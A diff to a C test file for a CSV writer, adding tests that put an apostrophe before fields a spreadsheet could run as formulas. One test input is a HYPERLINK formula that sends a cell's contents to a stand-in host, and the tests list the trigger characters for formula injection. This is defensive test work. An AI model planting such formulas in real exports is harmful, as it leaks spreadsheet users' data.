@@ -1,6 +1,7 @@
 /*
  * test_csvout.c: the one CSV writer (common/csvout.c): RFC 4180 quoting of
- * each kind of field, row ends, and the responses CSV rows that sipasctl
+ * each kind of field, the ' before text a spreadsheet could run (numbers
+ * as they are), row ends, and the responses CSV rows that sipasctl
  * export and GET /api/v1/export both write (time in +07:00, the shortest
  * weight that reads back, answers and demographics from their JSON).
  */
@@ -36,7 +37,18 @@ test_fields(void)
 		{ "\"", "\"\"\"\"\r\n", "a lone quote" },
 		{ "two\nlines", "\"two\nlines\"\r\n", "LF: quoted" },
 		{ "cr\rhere", "\"cr\rhere\"\r\n", "CR: quoted" },
-		{ "=SUM(A1)", "=SUM(A1)\r\n", "no formula guard: as it is" },
+		{ "=SUM(A1)", "'=SUM(A1)\r\n", "= : a ' in front" },
+		{ "+1", "'+1\r\n", "+ : a ' in front" },
+		{ "-2", "'-2\r\n", "- (text): a ' in front" },
+		{ "@x", "'@x\r\n", "@ : a ' in front" },
+		{ "\tx", "'\tx\r\n", "tab: a ' in front" },
+		{ "\rx", "\"'\rx\"\r\n", "CR: a ' in front, inside the quotes" },
+		{ "=HYPERLINK(\"http://e/?x=\"&A1,\"c\")",
+		    "\"'=HYPERLINK(\"\"http://e/?x=\"\"&A1,\"\"c\"\")\"\r\n",
+		    "a quoted formula: the ' inside the quotes" },
+		{ "'=x", "''=x\r\n", "'= : one more ', so that a reader gets '=x back" },
+		{ "'plain", "'plain\r\n", "a ' before harmless text: as it is" },
+		{ "a-b", "a-b\r\n", "a - further on: as it is" },
 		{ " spaced ", " spaced \r\n", "spaces kept, not quoted" },
 		{ "Huyện Một", "Huyện Một\r\n", "UTF-8 as it is" },
 	};
@@ -53,6 +65,17 @@ test_fields(void)
 		tap_ok(strcmp(got, cases[i].want) == 0, "%s", cases[i].what);
 		free(got);
 	}
+	csvout_clear(&o);
+	csvout_number(&o, "-1.5");
+	csvout_number(&o, "-3");
+	csvout_row_end(&o);
+	got = bytes(&o);
+	tap_ok(strcmp(got, "-1.5,-3\r\n") == 0, "a negative number stays a number");
+	free(got);
+	tap_ok(csvout_text_risky("'''=") && !csvout_text_risky("'''") &&
+	    !csvout_text_risky(NULL) && !csvout_text_risky(""),
+	    "risky: = after any number of '; a lone ' or nothing is not");
+
 	csvout_clear(&o);
 	csvout_field(&o, "a");
 	csvout_field(&o, NULL);
